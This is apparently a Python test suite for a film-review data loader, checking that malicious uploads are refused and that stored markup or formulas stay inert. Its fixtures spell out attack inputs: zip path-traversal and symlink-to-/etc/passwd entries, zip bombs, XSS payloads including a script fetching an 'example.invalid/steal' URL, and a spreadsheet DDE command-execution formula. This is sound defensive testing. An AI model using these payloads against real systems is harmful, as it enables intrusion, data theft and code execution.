"""Hostile input: every attack is refused with a message naming the problem and the database is
left exactly as it was; active content and spreadsheet formulas are only ever stored as text."""

from __future__ import annotations

import csv
import io
import stat
import tomllib
import tracemalloc
import zipfile
from pathlib import Path

import pytest

import ingest.errors
import ingest.files
import ingest.uploads
import queries
from ingest.__main__ import main
from ingest.errors import LoadError
from ingest.load import load_paths
from ingest.location import open_for_loading
from ingest.uploads import unpack_upload
from queries.filters import Filters
from tests.conftest import snapshot

FIXTURES = Path(__file__).parent / "fixtures"
EXPORT = FIXTURES / "letterboxd_export" / "letterboxd-quietfox-2023-07-20-09-15-utc"
PROFILE = (
    "Date Joined,Username,Given Name,Family Name,Email Address,Location,Website,Bio,Pronoun,Favorite Films\n"
    "2020-01-01,mallory,,,,,,,,\n"
)
DIARY = "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Tags,Watched Date\n"
REVIEWS = "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Review,Tags,Watched Date\n"


@pytest.fixture
def db(tmp_path) -> Path:
    """A database file already holding an export, so 'unchanged' means something."""
    path = tmp_path / "reviews.duckdb"
    con = open_for_loading(path)
    load_paths(con, [EXPORT])
    con.close()
    return path




def cli_refuses(db: Path, *paths: Path, fmt: str | None = None) -> str:
    """Run `python -m ingest load` expecting refusal; returns stderr after checking the database."""
    before = snapshot(db)
    args = ["load", *map(str, paths), "--db", str(db)] + (["--format", fmt] if fmt else [])
    captured = io.StringIO()
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("sys.stderr", captured)
        assert main(args) == 1
    assert snapshot(db) == before
    err = captured.getvalue()
    assert "Nothing was loaded; the database is unchanged." in err
    return err


def export_entries(prefix: str = "") -> list[tuple[str, bytes]]:
    """The fixture export as (name, bytes) zip entries."""
    return [
        (prefix + f.relative_to(EXPORT).as_posix(), f.read_bytes()) for f in sorted(EXPORT.rglob("*")) if f.is_file()
    ]


def make_zip(path: Path, entries: list[tuple[str | zipfile.ZipInfo, bytes]], method=zipfile.ZIP_DEFLATED) -> Path:
    """A zip holding `entries` (name or ZipInfo, content)."""
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, content in entries:
            zf.writestr(name, content)
    return path


def symlink_entry(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    """A zip entry that unpacks (with a naive unzip) to a symbolic link."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


# Archives ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (("../escaped.csv", b"x"), "entry '../escaped.csv': the entry's path climbs out of the archive's folder"),
        (("export/../../escaped.csv", b"x"), "climbs out of the archive's folder"),
        (("..\\..\\escaped.csv", b"x"), "climbs out of the archive's folder"),
        (("/tmp/escaped.csv", b"x"), "entry '/tmp/escaped.csv': the entry has an absolute path"),
        (("C:/escaped.csv", b"x"), "the entry has an absolute path"),
        (symlink_entry("link.csv", "/etc/passwd"), "entry 'link.csv': the entry is a symbolic link"),
        pytest.param(
            ("profile.csv", b"Date Joined,Username\n2020-01-01,mallory\n"),
            "entry 'profile.csv': the entry is in the zip twice",
            marks=pytest.mark.filterwarnings("ignore:Duplicate name"),
        ),
    ],
)
def test_zip_entries_that_escape_their_folder_are_refused(tmp_path, db, extra, message):
    archive = make_zip(tmp_path / "export.zip", [*export_entries(), extra])
    assert message in cli_refuses(db, archive)
    assert not (tmp_path / "escaped.csv").exists()
    assert not Path("/tmp/escaped.csv").exists()


def test_a_zip_bomb_is_refused_by_its_declared_size(tmp_path, db, monkeypatch):
    monkeypatch.setattr(ingest.uploads, "MAX_UNPACKED_BYTES", 100_000)
    archive = make_zip(tmp_path / "bomb.zip", [*export_entries(), ("huge.csv", b"\0" * 5_000_000)])
    assert archive.stat().st_size < 20_000
    assert "bytes, above the limit of 100,000 bytes" in cli_refuses(db, archive)


def understate(archive: Path, name: str, size: int) -> None:
    """Rewrite the zip's local and central headers so entry `name` declares `size` bytes."""
    data = bytearray(archive.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(name)] == name.encode():
                data[at + offset : at + offset + 4] = size.to_bytes(4, "little")
    archive.write_bytes(bytes(data))


def test_a_zip_whose_headers_understate_its_size_is_refused(tmp_path, db):
    """The bytes are counted while unpacking, so lying about sizes in the headers does not help."""
    archive = make_zip(tmp_path / "liar.zip", [("profile.csv", PROFILE.encode()), ("diary.csv", b"a" * 300_000)])
    understate(archive, "diary.csv", 1000)
    err = cli_refuses(db, archive)
    # zipfile stops at the declared size and then finds the checksum wrong; either way, refused.
    assert "entry 'diary.csv'" in err
    assert "the zip is corrupt (Bad CRC-32" in err or "more bytes than its header declares" in err


@pytest.mark.parametrize(("method", "name"), [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "LZMA")])
def test_a_bomb_in_an_unbounded_method_is_refused_before_it_expands(tmp_path, db, method, name):
    """zipfile inflates bzip2 and LZMA in one unbounded step per read: such entries are never opened."""
    bomb = 64 * 1024**2
    archive = make_zip(tmp_path / "bomb.zip", [("profile.csv", PROFILE.encode())], zipfile.ZIP_STORED)
    with zipfile.ZipFile(archive, "a", method) as zf:
        zf.writestr("diary.csv", b"\0" * bomb)
    understate(archive, "diary.csv", 1000)
    assert archive.stat().st_size < 100_000
    tracemalloc.start()
    try:
        with pytest.raises(LoadError) as refused:
            unpack_upload(archive, tmp_path / "work")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 4 * 1024**2
    assert f"entry 'diary.csv': the entry is compressed with {name}" in str(refused.value)
    assert list((tmp_path / "work").iterdir()) == []
    assert f"compressed with {name}, which cannot be unpacked safely here" in cli_refuses(db, archive)


def test_a_zip_with_too_many_entries_is_refused(tmp_path, db, monkeypatch):
    monkeypatch.setattr(ingest.uploads, "MAX_ENTRIES", 5)
    archive = make_zip(tmp_path / "many.zip", export_entries())
    assert "entries, above the limit of 5" in cli_refuses(db, archive)


def test_a_zip_above_the_file_size_limit_is_refused(tmp_path, db, monkeypatch):
    archive = make_zip(tmp_path / "big.zip", export_entries())
    monkeypatch.setattr(ingest.files, "MAX_FILE_BYTES", 1000)
    assert "above the limit of 1,000 bytes" in cli_refuses(db, archive)


def test_a_cut_short_zip_is_refused(tmp_path, db):
    whole = make_zip(tmp_path / "whole.zip", export_entries()).read_bytes()
    cut = tmp_path / "cut.zip"
    cut.write_bytes(whole[: len(whole) // 2])
    assert "cut.zip: not a readable zip archive" in cli_refuses(db, cut)


def test_a_zip_with_damaged_data_is_refused(tmp_path, db):
    archive = make_zip(
        tmp_path / "damaged.zip",
        [("profile.csv", PROFILE.encode()), ("diary.csv", (DIARY * 50).encode())],
        zipfile.ZIP_STORED,
    )
    data = bytearray(archive.read_bytes())
    at = data.find(b"Letterboxd URI", data.find(b"diary.csv") + 9)
    data[at : at + 3] = b"XYZ"
    archive.write_bytes(bytes(data))
    assert "entry 'diary.csv': the zip is corrupt (Bad CRC-32" in cli_refuses(db, archive)


def test_a_file_named_zip_that_is_not_one_is_refused(tmp_path, db):
    fake = tmp_path / "export.zip"
    fake.write_text("Date,Name\n", encoding="utf-8")
    assert "export.zip: not a readable zip archive" in cli_refuses(db, fake)


def test_a_refused_zip_leaves_nothing_behind(tmp_path):
    archive = make_zip(tmp_path / "evil.zip", [*export_entries(), ("../x.csv", b"x")])
    work = tmp_path / "work"
    with pytest.raises(LoadError):
        unpack_upload(archive, work)
    assert list(work.iterdir()) == []


def test_a_good_zip_unpacks_to_its_one_folder(tmp_path):
    archive = make_zip(tmp_path / "wrapped.zip", [*export_entries("letterboxd-x/"), ("__MACOSX/._junk", b"j")])
    [folder] = unpack_upload(archive, tmp_path / "work")
    assert folder.name == "letterboxd-x"
    assert (folder / "deleted" / "diary.csv").read_bytes() == (EXPORT / "deleted" / "diary.csv").read_bytes()
    assert unpack_upload(EXPORT, tmp_path / "work") == [EXPORT]


# Files -----------------------------------------------------------------------------------------------


def export_folder(tmp_path: Path, **files: bytes) -> Path:
    """An export folder with a profile and the given files (name without .csv -> bytes)."""
    folder = tmp_path / "letterboxd-mallory"
    folder.mkdir()
    (folder / "profile.csv").write_text(PROFILE, encoding="utf-8")
    for name, content in files.items():
        (folder / f"{name}.csv").write_bytes(content)
    return folder


@pytest.mark.parametrize(
    ("fmt", "name", "content", "message"),
    [
        ("letterboxd-export", "diary.csv", b"\0" * 4096, "diary.csv: binary content (a NUL byte at byte 0)"),
        (
            "letterboxd-export",
            "reviews.csv",
            (REVIEWS + "2023-01-01,Québec,2015,,4,,Très bien,,\n").encode("cp1252"),
            "reviews.csv: not UTF-8 text",
        ),
        ("letterboxd-page", "film.html", b"\0" * 4096, "film.html: binary content"),
        (
            "letterboxd-page",
            "film.html",
            "<h1 class='headline-1 filmtitle'>Ça</h1>".encode("latin-1"),
            "film.html: not UTF-8 text",
        ),
        ("movielens", "ratings.csv", b"\0" * 4096, "ratings.csv: binary content"),
        (
            "movielens",
            "movies.csv",
            "movieId,title,genres\n1,Québec (2015),Drama\n".encode("latin-1"),
            "movies.csv: not UTF-8 text",
        ),
    ],
)
def test_binary_and_non_utf8_files_are_refused(tmp_path, db, fmt, name, content, message):
    if fmt == "letterboxd-export":
        path = export_folder(tmp_path, **{name.removesuffix(".csv"): content})
    else:
        path = tmp_path / "input"
        path.mkdir()
        (path / name).write_bytes(content)
    assert message in cli_refuses(db, path, fmt=fmt)


def test_a_file_above_the_size_limit_is_refused(tmp_path, db, monkeypatch):
    folder = export_folder(tmp_path, diary=(DIARY + "2023-01-01,Glass Orchard,2022,,3,,,2023-01-01\n").encode())
    monkeypatch.setattr(ingest.files, "MAX_FILE_BYTES", 100)
    assert "above the limit of 100 bytes" in cli_refuses(db, folder)


def test_html_with_scripts_is_stored_as_plain_text(tmp_path, db):
    page = tmp_path / "evil.html"
    page.write_text(
        "<html><head><script>fetch('https://example.invalid/steal')</script>"
        "<link rel='canonical' href='https://letterboxd.com/film/evil-film/'></head><body>"
        "<h1 class='headline-1 primaryname'><span class='name'>Evil<script>alert('title')</script> Film"
        "<style>body{display:none}</style></span></h1>"
        "<article class='production-viewing' data-owner='mallory' data-object-id='viewing:66'>"
        "<strong class='displayname'>Mallory<img src=x onerror=alert('name')></strong>"
        "<div class='body-text js-review-body'><p>Nice <iframe src='javascript:alert(1)'></iframe>"
        "<a href='javascript:alert(2)'>link</a><svg onload=alert(3)><text>svg</text></svg>"
        "<object data='x.swf'>flash</object> film &lt;img src=x onerror=alert(4)&gt;</p>"
        "<noscript>noscript text</noscript><template><p>template</p></template></div>"
        "</article></body></html>",
        encoding="utf-8",
    )
    con = open_for_loading(db)
    try:
        load_paths(con, [page])
        title = con.execute("SELECT title FROM films WHERE film_id = 'evil-film'").fetchone()[0]
        row = con.execute(
            "SELECT r.review_text, v.display_name FROM reviews r JOIN reviewers v USING (reviewer_id) "
            "WHERE r.film_id = 'evil-film'"
        ).fetchone()
    finally:
        con.close()
    assert title == "Evil Film"
    # What the reviewer typed as markup (escaped on the page) is kept as inert text; real tags are gone.
    assert row == ("Nice link film <img src=x onerror=alert(4)>", "Mallory")


def downloaded_review_texts(con, folder: Path) -> list[str]:
    """The review_text cells of the Reviews page's CSV download, as a spreadsheet would read them."""
    queries.install_macros(con)
    target = folder / "download.csv"
    queries.export_csv(con, "review_export", target, search=None, sort="date", descending=True, **Filters().params())
    with target.open(newline="", encoding="utf-8-sig") as handle:
        return [r["review_text"] for r in csv.DictReader(handle)]


def test_a_formula_in_a_review_is_stored_as_text_and_neutralised_in_downloads(tmp_path, db):
    formula = "=cmd|' /C calc'!A0"
    folder = export_folder(tmp_path, reviews=(REVIEWS + f"2023-01-01,Glass Orchard,2022,,3,,{formula},,\n").encode())
    con = open_for_loading(db)
    try:
        load_paths(con, [folder])
        stored = con.execute("SELECT review_text FROM reviews WHERE reviewer_id = 'mallory'").fetchone()[0]
        assert stored == formula
        if not (Path(queries.__file__).parent / "review_export.sql").exists():
            pytest.skip("no review export query to download through")
        cells = downloaded_review_texts(con, tmp_path)
    finally:
        con.close()
    assert "'" + formula in cells
    assert formula not in cells


@pytest.mark.parametrize(
    "formula", ["\n=1+1", " =1+1", "\t@SUM(A1)", "\r+1", "\uff1d1+1", "\uff0b1", "\u3000\uff0d1", " \n\uff20A1"]
)
def test_formulas_behind_whitespace_or_in_full_width_are_neutralised_in_downloads(tmp_path, db, formula):
    """Spreadsheets skip leading blanks and read full-width signs as formula signs."""
    con = open_for_loading(db)
    try:
        con.execute("UPDATE reviews SET review_text = $f WHERE review_id = (SELECT min(review_id) FROM reviews)", {"f": formula})
        cells = downloaded_review_texts(con, tmp_path)
    finally:
        con.close()
    assert "'" + formula in cells
    assert formula not in cells


def test_the_tables_own_export_is_off_so_every_download_is_the_neutralised_one():
    """st.dataframe's toolbar would write cells as they are; the app's download buttons defuse them."""
    config = tomllib.loads((Path(__file__).parents[1] / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


# Messages ------------------------------------------------------------------------------------------


def test_a_hundred_thousand_duplicate_rows_give_a_short_message(tmp_path, db):
    """Before, every repeat was listed: 100,000 identical rows gave a 1.09-million-character message."""
    folder = tmp_path / "dupes"
    folder.mkdir()
    (folder / "films.csv").write_text("film_id,title,year\nf1,Film,2020\n", encoding="utf-8")
    (folder / "reviewers.csv").write_text("reviewer_id,display_name\nana,Ana\n", encoding="utf-8")
    row = "r1,f1,ana,4.5,2024-01-01\n"
    (folder / "reviews.csv").write_text("review_id,film_id,reviewer_id,rating,review_date\n" + row * 100_000, encoding="utf-8")
    err = cli_refuses(db, folder, fmt="canonical")
    assert len(err) < 3_000
    assert "row 1: duplicate review_id 'r1' (again at row 2, row 3, row 4, row 5 and 99,995 more rows)" in err


def test_a_refusal_keeps_a_few_problems_and_counts_the_rest(tmp_path):
    refused = LoadError([ingest.errors.Problem(f"file{i}.html", "no reviews found") for i in range(1_000)])
    lines = str(refused).splitlines()
    assert len(lines) == ingest.errors.MAX_PROBLEMS + 1
    assert lines[-1] == "and 975 more problems like the above"
    long = ingest.errors.Problem("reviews.csv", "x" * 10_000)
    assert len(str(long)) == ingest.errors.MAX_MESSAGE_CHARS
    assert ingest.errors.shown("y" * 1_000_000).endswith("…")
